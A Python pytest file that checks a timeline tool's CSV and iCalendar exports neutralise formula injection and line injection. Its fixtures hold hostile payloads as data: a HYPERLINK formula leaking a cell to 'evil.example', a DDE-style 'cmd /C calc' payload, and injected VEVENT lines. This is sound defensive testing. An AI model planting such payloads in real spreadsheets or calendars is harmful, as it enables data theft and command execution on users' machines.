"""Hostile text in the exports other programs open: CSV (formula injection) and iCalendar (line injection).

The hostile text comes the two ways it really does: from an article's own text (the tool makes the
event titles and quotes from it) and from the YAML a person edits.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from timeline.pipeline import Options, Paths, build
from timeline.site import exports

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# An article whose sentences start with what a spreadsheet runs, and carry what breaks an iCalendar
# line: form feed, NEL, U+2028/2029, vertical tab, a C0 control, DEL.
ARTICLE = (
    "Council report\n\n"
    '=HYPERLINK("http://evil.example/?leak="&A1,"open") was approved by the council on 3 March 2021.\n\n'
    "@everyone met in Springfield on 4 March 2021 to discuss the plan.\n\n"
    "+1 members voted against the plan on 5 March 2021 in the hall.\n\n"
    "The mayor signed\fthe\x85budget\u2028on 8 March 2021\u2029after a\x0bvote\x01and\x7fa party.\n"
)
# Events a person wrote by hand in data/events/, every text field hostile.
HAND_EVENTS = [
    {"id": "hand-formula", "date": "2021-04-01", "title": "=1+2", "summary": "-2+3",
     "people": ["@SUM(A1:A9)", "Ann"], "places": ["+cmd|' /C calc'!A0"], "tags": ["\t=1"],
     "organisations": ["\r=2"]},
    {"id": "hand-hyperlink", "date": "2021-04-02", "title": ' =HYPERLINK("http://evil.example")', "summary": "ok"},
    {"id": "hand-lines", "date": "2021-04-03", "title": "BEGIN:VEVENT\fSUMMARY:x\u2028END:VEVENT\x85DTSTART:1",
     "summary": "a;b,c\\d\r\ne\rf\ng\x00h\x1bi", "tags": ["x\u2029y", "é" * 50]},
]


def _yaml_events(events: list[dict]) -> str:
    # JSON is YAML: each event a flow mapping, every string double-quoted with its escapes.
    return "".join(f"- {json.dumps(event)}\n" for event in events)


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile-exports")
    (root / "seeds").mkdir()
    (root / "data" / "events").mkdir(parents=True)
    (root / "seeds" / "report.txt").write_text(ARTICLE, encoding="utf-8")
    (root / "data" / "events" / "hand.yaml").write_text(_yaml_events(HAND_EVENTS), encoding="utf-8")
    report = build(Paths.under(root), Options(jobs=1), run_mkdocs=False)
    assert not report.needs_action, [str(p) for p in report.problems]
    return root / "docs" / "exports"


def _csv_rows(exported: Path) -> list[dict[str, str]]:
    data = (exported / "events.csv").read_bytes().decode("utf-8")
    return list(csv.DictReader(io.StringIO(data, newline="")))


def test_no_csv_cell_starts_a_formula(exported):
    rows = _csv_rows(exported)
    by_id = {row["id"]: row for row in rows}
    # The article's own text made titles that start with @ and +: they are there, as text. (The
    # hand-written events carry "=".)
    from_text = [row["title"] for row in rows if not row["id"].startswith("hand-")]
    assert any(title.startswith("'@") for title in from_text), from_text
    assert any(title.startswith("'+") for title in from_text), from_text
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(FORMULA_START), (row["id"], column, cell)
            # A list cell opened with "; " as the separator: no item may start a formula either.
            for item in cell.split("; "):
                assert not item.lstrip(" ").startswith(FORMULA_START), (row["id"], column, item)
    hand = by_id["hand-formula"]
    assert (hand["title"], hand["summary"]) == ("'=1+2", "'-2+3")
    assert hand["people"] == "'@SUM(A1:A9); Ann"
    assert by_id["hand-hyperlink"]["title"] == "' =HYPERLINK(\"http://evil.example\")"
    assert by_id["hand-hyperlink"]["summary"] == "ok"  # text that starts no formula is left as it is


def _unfolded(ics: bytes) -> list[str]:
    text = ics.decode("utf-8")  # valid UTF-8 throughout: no line was cut inside a character
    assert text.endswith("\r\n")
    physical = text[:-2].split("\r\n")
    for line in physical:
        assert len(line.encode("utf-8")) <= 75, line
        assert not re.search("[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029]", line), repr(line)
    logical: list[str] = []
    for line in physical:
        if line.startswith(" "):
            logical[-1] += line[1:]
        else:
            logical.append(line)
    return logical


def _ics_unescape(value: str) -> str:
    return re.sub(r"\\([\\;,nN])", lambda m: "\n" if m[1] in "nN" else m[1], value)


def test_icalendar_holds_no_forbidden_character_and_no_injected_line(exported):
    lines = _unfolded((exported / "events.ics").read_bytes())
    names = [line.split(":", 1)[0].split(";", 1)[0] for line in lines]
    assert names.count("BEGIN") == names.count("END") == 1 + names.count("UID")
    assert all(re.fullmatch(r"[A-Z-]+", name) for name in names), names
    events = {}
    for line in lines:
        name, _, value = line.partition(":")
        if name == "UID":
            current = events.setdefault(value.split("@")[0], {})
        elif name in ("SUMMARY", "DESCRIPTION", "CATEGORIES") and events:
            current[name] = value
            # Every ; and , inside a text value is escaped: nothing splits it into two values.
            if name != "CATEGORIES":
                assert not re.search("[;,]", re.sub(r"\\.", "", value)), value
    # Line breaks of every kind are an escaped \n; other controls are gone; the rest is kept.
    assert _ics_unescape(events["hand-lines"]["SUMMARY"]) == "BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT\nDTSTART:1"
    summary = _ics_unescape(events["hand-lines"]["DESCRIPTION"]).split("\n", 1)[1]
    assert summary == "a;b,c\\d\ne\nf\nghi"
    assert events["hand-lines"]["CATEGORIES"] == "x\\ny," + "é" * 50
    signed = next(e for key, e in events.items() if "sign" in key or "mayor" in key.lower())
    assert "\\n" in signed["DESCRIPTION"]


@given(st.text(max_size=400))  # every code point, lone surrogates included
@settings(max_examples=300, deadline=None)
def test_any_text_makes_a_valid_folded_icalendar_line(text):
    folded = exports.fold("DESCRIPTION:" + exports.ics_escape(text))
    data = (folded + "\r\n").encode("utf-8")  # raises on a lone surrogate
    for line in data.split(b"\r\n")[:-1]:
        assert len(line) <= 75
        line.decode("utf-8")  # no character cut in two
        assert not re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", line)
        assert not re.search("[\x80-\x9f\u2028\u2029]", line.decode("utf-8"))


def test_the_timelinejs_export_is_the_json_encoding_of_its_document(exported):
    # The export is written a slide at a time (an unchanged slide is not encoded again): it must be,
    # byte for byte, what encoding the whole document gives, line separators in the text included.
    data = (exported / "timeline.json").read_bytes()
    document = json.loads(data)
    assert len(document["events"]) >= len(HAND_EVENTS)
    assert data == (json.dumps(document, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode("utf-8")


def test_a_timeline_without_events_exports_an_empty_list():
    from timeline.site.layout import Layout

    empty = Layout(events=[], unplaced=[], articles={}, entities={}, months={}, years=[], settings={})
    strings = {"site_title": "A </title> \u2028 site", "timelinejs_title_text": "{events} events, {articles} articles"}
    data = exports.timelinejs(empty, strings, "marker")
    document = json.loads(data)
    assert document["events"] == [] and document["title"]["text"]["headline"] == strings["site_title"]
    assert data == (json.dumps(document, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode("utf-8")
    calendar = exports.icalendar(empty, {"ics_calendar_name": "Cal"}, "marker").decode("utf-8")
    assert calendar.startswith("BEGIN:VCALENDAR\r\n") and calendar.endswith("X-WR-CALNAME:Cal\r\nEND:VCALENDAR\r\n")
    assert exports.events_csv(empty).decode("utf-8").count("\r\n") == 1  # the header row alone
